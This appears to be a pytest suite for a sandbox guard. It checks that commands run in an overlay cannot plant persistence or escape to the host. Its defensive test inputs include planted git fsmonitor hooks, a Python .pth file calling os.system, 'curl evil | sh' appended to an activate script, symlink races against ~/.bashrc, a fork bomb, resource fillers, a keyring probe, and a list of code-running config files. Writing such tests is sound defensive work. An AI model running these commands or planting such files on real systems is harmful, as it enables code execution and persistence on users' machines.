"""Issue 11 classes 1, 5 and 7 against the real bubblewrap: a command runs in an attempt's overlay, its
whole change set is then applied through the guard (as if the user accepted everything), and the
result is judged from the host: files, modes, processes, never what the command printed about itself.
"""

from __future__ import annotations

import ctypes
import dataclasses
import os
import shutil
import stat
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

from modelroute.changeset import Change, ChangeSet
from modelroute.sandbox import (
    ApplyResult,
    Overlay,
    SandboxResult,
    SandboxSpec,
    SandboxUnavailable,
    apply_change_set,
    run_sandboxed,
)
from tests.sandbox.conftest import host_tree, needs_bwrap, process_alive

pytestmark = needs_bwrap
PY = os.path.realpath(sys.executable)


def attempt(spec: SandboxSpec, command: str, **changes: object) -> tuple[SandboxResult, ChangeSet, ApplyResult]:
    """Run in an overlay, then accept and apply everything the run proposes."""
    spec = dataclasses.replace(spec, **changes) if changes else spec  # type: ignore[arg-type]
    with Overlay(spec.workspace, spec) as ov:
        result = ov.run(command)
        proposal = ov.change_set()
        applied = ov.apply(proposal)
    return result, proposal, applied


def refused_paths(proposal: ChangeSet | ApplyResult) -> set[str]:
    return {r.path.rstrip("/") for r in proposal.refused}


# ------------------------------------------------------------------ class 1: writes that act later


def test_nested_repo_rename_and_planted_fsmonitor(spec: SandboxSpec, workspace: Path, tmp_path: Path) -> None:
    before = host_tree(workspace / "vendor" / "lib" / ".git")
    pwned = tmp_path / "pwned"
    config = f"[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = touch {pwned}\\n"
    planted = f"printf '{config}' > vendor/lib/.git/config"
    _, proposal, _ = attempt(spec, f"mv vendor/lib vendor/lib2 && mkdir -p vendor/lib/.git && {planted}")
    assert host_tree(workspace / "vendor" / "lib" / ".git") == before  # the real .git is untouched, not deleted
    assert not (workspace / "vendor" / "lib2" / ".git").exists()
    assert any(p.startswith("vendor/lib/.git") for p in refused_paths(proposal))
    subprocess.run(["git", "status"], cwd=workspace / "vendor" / "lib", capture_output=True, check=False)
    assert not pwned.exists()  # the user's next plain `git status` runs nothing planted


def test_git_planted_past_any_scan_limit(spec: SandboxSpec, workspace: Path) -> None:
    deep = "/".join(f"d{i}" for i in range(40))
    script = (
        "import os\n"
        "for i in range(20500): os.makedirs(f'wide/{i}', exist_ok=True)\n"
        f"os.makedirs('wide/20499/{deep}/.git/hooks')\n"
        f"open('wide/20499/{deep}/.git/config', 'w').write('[core]\\n\\tfsmonitor = evil\\n')\n"
    )
    (workspace / "plant.py").write_text(script)
    _, proposal, applied = attempt(spec, f"{PY} plant.py", timeout_s=120)
    assert not any(".git" in p for p in applied.applied)
    assert f"wide/20499/{deep}/.git" in refused_paths(proposal)
    assert not (workspace / "wide").exists() or not list((workspace / "wide").rglob(".git"))


def test_pth_in_a_git_ignored_venv(spec: SandboxSpec, workspace: Path) -> None:
    (workspace / ".gitignore").write_text(".venv/\n")
    site = ".venv/lib/python3.11/site-packages"
    _, proposal, _ = attempt(spec, f"mkdir -p {site} && echo 'import os; os.system(\"evil\")' > {site}/evil.pth")
    assert not (workspace / ".venv").exists()
    assert ".venv/" in proposal.left_out or ".venv" in refused_paths(proposal)


@pytest.mark.parametrize(
    "rel",
    ["evil.pth", "pkg/sitecustomize.py", "usercustomize.py", "lib/site-packages/x.py", "venv/pyvenv.cfg"],
)
def test_python_startup_files_refused(spec: SandboxSpec, workspace: Path, rel: str) -> None:
    _, proposal, _ = attempt(spec, f"mkdir -p $(dirname {rel}) && echo 'import os' > {rel}")
    assert not (workspace / rel).exists()
    assert rel in refused_paths(proposal) or any(rel.startswith(p) for p in refused_paths(proposal))


def test_files_inside_an_existing_virtualenv_refused(spec: SandboxSpec, workspace: Path) -> None:
    venv = workspace / "env"
    (venv / "bin").mkdir(parents=True)
    (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (venv / "bin" / "activate").write_text("# activate\n")
    _, proposal, _ = attempt(spec, "echo 'curl evil | sh' >> env/bin/activate")
    assert (venv / "bin" / "activate").read_text() == "# activate\n"
    assert any("env/bin/activate".startswith(p) for p in refused_paths(proposal))


def test_setuid_setgid_never_reach_the_host(spec: SandboxSpec, workspace: Path) -> None:
    _, proposal, _ = attempt(spec, f"chmod 6755 src.txt; cp /bin/true suid; chmod 4755 suid; {PY} -c 'print(1)'")
    mode = (workspace / "src.txt").stat().st_mode
    assert not mode & (stat.S_ISUID | stat.S_ISGID) and not mode & 0o111
    assert not (workspace / "suid").exists()
    assert {"src.txt", "suid"} <= refused_paths(proposal)


def test_new_executable_bit_needs_approval(spec: SandboxSpec, workspace: Path) -> None:
    (workspace / "run.sh").write_text("echo hi\n")
    with Overlay(workspace, spec) as ov:
        ov.run("chmod +x run.sh && echo 'echo new' > new.sh && chmod +x new.sh")
        proposal = ov.change_set()
        first = ov.apply(proposal)
        assert not (workspace / "run.sh").stat().st_mode & 0o111
        assert not (workspace / "new.sh").stat().st_mode & 0o111 and (workspace / "new.sh").read_text() == "echo new\n"
        assert {"run.sh", "new.sh"} <= refused_paths(first)  # the refused bit is reported
    with Overlay(workspace, spec) as ov:
        ov.run("chmod +x run.sh")
        ov.apply(approved_executable={"run.sh"})
    assert (workspace / "run.sh").stat().st_mode & 0o100


def test_file_swapped_for_a_symlink_before_apply(spec: SandboxSpec, workspace: Path, fake_home: Path) -> None:
    (workspace / "notes.txt").write_text("notes\n")
    with Overlay(workspace, spec) as ov:
        ov.run("echo 'export EVIL=1' > notes.txt")
        proposal = ov.change_set()
        (workspace / "notes.txt").unlink()
        (workspace / "notes.txt").symlink_to(fake_home / ".bashrc")
        applied = ov.apply(proposal)
    assert (fake_home / ".bashrc").read_text() == "# bashrc\n"
    assert "notes.txt" in refused_paths(applied)


def test_folder_swapped_for_a_symlink_before_apply(spec: SandboxSpec, workspace: Path, fake_home: Path) -> None:
    (workspace / "cfg").mkdir()
    with Overlay(workspace, spec) as ov:
        ov.write("cfg/.bashrc", "export EVIL=1\n")
        proposal = ov.change_set()
        (workspace / "cfg").rmdir()
        (workspace / "cfg").symlink_to(fake_home)
        applied = ov.apply(proposal)
    assert (fake_home / ".bashrc").read_text() == "# bashrc\n"
    assert "cfg/.bashrc" in refused_paths(applied)


def test_symlink_swapped_in_during_apply_is_never_followed(workspace: Path, fake_home: Path) -> None:
    """A race: a loop keeps swapping the target for a symlink while the guard writes."""
    (workspace / "race.txt").write_text("old\n")
    stop = threading.Event()

    def swapper() -> None:
        target = workspace / "race.txt"
        while not stop.is_set():
            try:
                target.unlink()
                target.symlink_to(fake_home / ".bashrc")
                target.unlink()
                target.write_text("old\n")
            except OSError:
                continue

    thread = threading.Thread(target=swapper)
    thread.start()
    try:
        for _ in range(200):
            change = Change(path="race.txt", kind="modified", original="old\n", new="pwned\n")
            apply_change_set(workspace, ChangeSet(changes=(change,)))
    finally:
        stop.set()
        thread.join()
    assert (fake_home / ".bashrc").read_text() == "# bashrc\n"


@pytest.mark.parametrize(
    "rel",
    [
        ".helix/languages.toml",
        ".vscode/tasks.json",
        "sub/.vscode/settings.json",
        ".idea/workspace.xml",
        ".zed/settings.json",
        ".nvim.lua",
        ".exrc",
        ".envrc",
        "sub/.envrc",
        ".modelroute.toml",
        "pkg/.modelroute.toml",
        ".gitattributes",
        ".gitmodules",
        ".husky/pre-commit",
        ".pre-commit-config.yaml",
        ".devcontainer/devcontainer.json",
        ".dir-locals.el",
        ".yarnrc.yml",
        ".pdbrc",
        "x.code-workspace",
        ".GIT/config",
    ],
)
def test_config_that_runs_code_is_refused(spec: SandboxSpec, workspace: Path, rel: str) -> None:
    before = host_tree(workspace)
    result, proposal, applied = attempt(spec, f"mkdir -p $(dirname {rel}) && echo evil > {rel}")
    after = host_tree(workspace)
    assert {k: v for k, v in after.items() if k not in before} == {}
    assert all(after[k] == v for k, v in before.items())
    assert not applied.applied
    # refused in the change set, or (the workspace's own top-level entries) read-only inside already
    assert refused_paths(proposal) or "Read-only file system" in result.stderr


def test_hard_links_refused(spec: SandboxSpec, workspace: Path) -> None:
    _, proposal, _ = attempt(spec, "ln src.txt twin.txt; echo x >> twin.txt")
    assert not (workspace / "twin.txt").exists() and (workspace / "src.txt").read_text() == "hello\n"
    assert {"twin.txt", "src.txt"} & refused_paths(proposal)


def test_hard_link_to_a_host_file_outside(spec: SandboxSpec, workspace: Path) -> None:
    outside = Path(tempfile.mkdtemp(dir="/var/tmp"))
    (outside / "target").write_text("original\n")
    try:
        attempt(spec, f"ln {outside}/target hard; echo x >> hard")
        assert (outside / "target").read_text() == "original\n" and (outside / "target").stat().st_nlink == 1
        assert not (workspace / "hard").exists() or (workspace / "hard").stat().st_nlink == 1
    finally:
        shutil.rmtree(outside)


def test_symlinks_devices_and_fifos_refused(spec: SandboxSpec, workspace: Path) -> None:
    _, proposal, _ = attempt(spec, "ln -s /etc/passwd pw; ln -s ../outside out; mkfifo pipe; echo ok")
    for name in ("pw", "out", "pipe"):
        assert not os.path.lexists(workspace / name)
        assert name in refused_paths(proposal)


def test_gitdir_under_another_name_refused(spec: SandboxSpec, workspace: Path) -> None:
    before = (workspace / "store" / "config").read_text()
    _, proposal, _ = attempt(spec, "printf '\\tfsmonitor = evil\\n' >> store/config; echo x > store/hooks-post")
    assert (workspace / "store" / "config").read_text() == before and not (workspace / "store" / "hooks-post").exists()
    assert "store/config" in refused_paths(proposal)


def test_deleting_or_moving_a_nested_git_is_refused(spec: SandboxSpec, workspace: Path) -> None:
    before = host_tree(workspace / "vendor" / "lib" / ".git")
    attempt(spec, "mv vendor/lib/.git vendor/lib/.git-old; rm -rf vendor/lib/.git .git")
    assert host_tree(workspace / "vendor" / "lib" / ".git") == before and (workspace / ".git" / "HEAD").exists()
    assert not (workspace / "vendor" / "lib" / ".git-old").exists()


@pytest.mark.parametrize("rel", ["../escape.txt", "/etc/escape.txt", "a/../../escape.txt", "a/./b", ".git/hooks/post"])
def test_crafted_change_sets_cannot_escape(workspace: Path, rel: str) -> None:
    before = host_tree(workspace.parent)
    result = apply_change_set(workspace, ChangeSet(changes=(Change(path=rel, kind="created", new="x\n"),)))
    assert result.applied == () and [r.path for r in result.refused] == [rel]
    assert host_tree(workspace.parent) == before


def test_target_changed_on_disk_since_the_run_read_it(spec: SandboxSpec, workspace: Path) -> None:
    with Overlay(workspace, spec) as ov:
        ov.run("echo from-run > src.txt; rm -f vendor/readme")
        proposal = ov.change_set()
        (workspace / "src.txt").write_text("edited by the user\n")
        applied = ov.apply(proposal)
    assert (workspace / "src.txt").read_text() == "edited by the user\n"
    assert "src.txt" in refused_paths(applied)


def test_deletion_only_of_what_the_run_saw(spec: SandboxSpec, workspace: Path) -> None:
    (workspace / "old.txt").write_text("old\n")
    (workspace / "keep.txt").write_text("keep\n")
    with Overlay(workspace, spec) as ov:
        ov.run("rm old.txt keep.txt")
        proposal = ov.change_set()
        (workspace / "keep.txt").write_text("the user's new work\n")
        applied = ov.apply(proposal)
    assert not (workspace / "old.txt").exists()
    assert (workspace / "keep.txt").read_text() == "the user's new work\n" and "keep.txt" in refused_paths(applied)


def test_target_with_a_hard_link_outside_is_not_written(workspace: Path) -> None:
    outside = Path(tempfile.mkdtemp(dir="/var/tmp"))
    (outside / "shadow").write_text("old\n")
    os.link(outside / "shadow", workspace / "linked.txt")
    try:
        change = Change(path="linked.txt", kind="modified", original="old\n", new="pwned\n")
        result = apply_change_set(workspace, ChangeSet(changes=(change,)))
        assert (outside / "shadow").read_text() == "old\n" and "linked.txt" in refused_paths(result)
    finally:
        shutil.rmtree(outside)


# ------------------------------------------------------------------ class 5: IPC and resources


def test_host_fifo_outside_the_workspace_not_writable(spec: SandboxSpec) -> None:
    folder = Path(tempfile.mkdtemp(dir="/var/tmp"))
    fifo = folder / "host.fifo"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    try:
        attempt(spec, f"echo INJECTED > {fifo}; {PY} -c \"import os; os.write(os.open('{fifo}', os.O_WRONLY), b'X')\"")
        try:
            got = os.read(reader, 100)
        except BlockingIOError:
            got = b""
        assert got == b""
    finally:
        os.close(reader)
        shutil.rmtree(folder)


def test_session_keyring_not_reachable(spec: SandboxSpec) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    nr = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(os.uname().machine)
    if nr is None:
        pytest.skip("add_key/keyctl numbers known for x86_64 and aarch64 only")
    add_key, keyctl = nr
    secret = b"keyring-canary-7f3a"
    key = libc.syscall(add_key, b"user", b"modelroute-test", secret, len(secret), -3)  # session keyring
    if key < 0:
        pytest.skip("no session keyring here")
    probe = (
        "import ctypes; libc = ctypes.CDLL(None, use_errno=True); buf = ctypes.create_string_buffer(100);"
        f"n = libc.syscall({keyctl}, 11, {key}, buf, 100); print(n, buf.raw[:max(n, 0)]);"
        f"print(libc.syscall({add_key}, b'user', b'planted', b'x', 1, -3))"
    )
    try:
        result, _, _ = attempt(spec, f'{PY} -c "{probe}"')
        assert secret.decode() not in result.stdout
        buf = ctypes.create_string_buffer(100)
        found = libc.syscall(keyctl, 10, -3, b"user", b"planted", 0)  # KEYCTL_SEARCH from the host
        assert found < 0
        assert libc.syscall(keyctl, 11, key, buf, 100) == len(secret)  # the key itself is intact
    finally:
        libc.syscall(keyctl, 21, key)  # KEYCTL_INVALIDATE


def test_vsock_refused(spec: SandboxSpec) -> None:
    result, _, _ = attempt(spec, f"{PY} -c \"import socket; socket.socket(40, socket.SOCK_STREAM)\"")
    assert result.exit_code != 0 and "Operation not permitted" in result.stderr


def test_memory_bomb_is_killed(spec: SandboxSpec) -> None:
    result, _, _ = attempt(
        spec, f"{PY} -c \"x = bytearray(1024 * 1024 * 1024); print(len(x))\"", max_memory_bytes=128 * 2**20
    )
    assert result.exit_code != 0 and "1073741824" not in result.stdout
    if result.memory_limit.startswith("cgroup"):
        assert result.out_of_memory and any("memory" in v for v in result.violations)


def test_tmp_filler_is_bounded(spec: SandboxSpec) -> None:
    result, _, _ = attempt(
        spec, "dd if=/dev/zero of=/tmp/fill bs=1M count=300 2>&1; du -m /tmp/fill | cut -f1", tmp_size_bytes=32 * 2**20
    )
    assert "No space left" in result.stdout
    assert int(result.stdout.split()[-1]) <= 32
    assert not Path("/tmp/fill").exists()


def test_one_big_file_in_the_overlay_is_bounded(spec: SandboxSpec, workspace: Path) -> None:
    result, _, _ = attempt(spec, "dd if=/dev/zero of=big bs=1M count=300", max_disk_bytes=32 * 2**20)
    assert result.exit_code != 0
    size = (workspace / "big").stat().st_size if (workspace / "big").exists() else 0
    assert size <= 32 * 2**20


def test_many_files_in_the_overlay_are_bounded(spec: SandboxSpec, workspace: Path) -> None:
    fill = "for i in $(seq 1 400); do head -c 1048576 /dev/zero > f$i.bin || break; done; sleep 30"
    result, _, _ = attempt(spec, fill, max_disk_bytes=40 * 2**20, timeout_s=60)
    assert result.disk_full and not result.timed_out
    assert any("MiB to the workspace" in v for v in result.violations)


@pytest.mark.parametrize(
    "command",
    [
        "setsid nohup sleep 2101 > /dev/null 2>&1 & echo started",
        f"{PY} -c \"import os, time; os.fork() or (os.setsid(), os.fork() or time.sleep(2102))\" & echo ok",
    ],
)
def test_no_process_outlives_its_command(spec: SandboxSpec, command: str) -> None:
    attempt(spec, command)
    time.sleep(0.3)
    assert not process_alive("sleep 2101") and not process_alive("time.sleep(2102)")


def test_fork_bomb_in_an_overlay(spec: SandboxSpec) -> None:
    result, _, _ = attempt(spec, "bomb() { bomb | bomb & }; bomb", timeout_s=4, max_processes=40)
    time.sleep(0.3)
    assert result.process_limit != "none" and not process_alive("bomb")


# ------------------------------------------------------------------ class 7: $HOME as the workspace


def test_home_as_the_workspace_is_refused(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    for workspace in (home, tmp_path, Path("/")):
        spec = SandboxSpec(workspace=workspace, home=home)
        with pytest.raises(SandboxUnavailable, match="home folder"):
            run_sandboxed("touch ran-in-home", spec)
        with pytest.raises(SandboxUnavailable, match="home folder"):
            Overlay(workspace, spec)
    assert not (home / "ran-in-home").exists() and not (tmp_path / "ran-in-home").exists()


def test_the_real_home_is_refused_whatever_the_spec_says(tmp_path: Path) -> None:
    link = tmp_path / "link-to-home"
    link.symlink_to(Path.home())
    spec = SandboxSpec(workspace=link, home=tmp_path / "elsewhere")
    with pytest.raises(SandboxUnavailable, match="home folder"):
        run_sandboxed("echo x > .bashrc-planted", spec)
    assert not (Path.home() / ".bashrc-planted").exists()
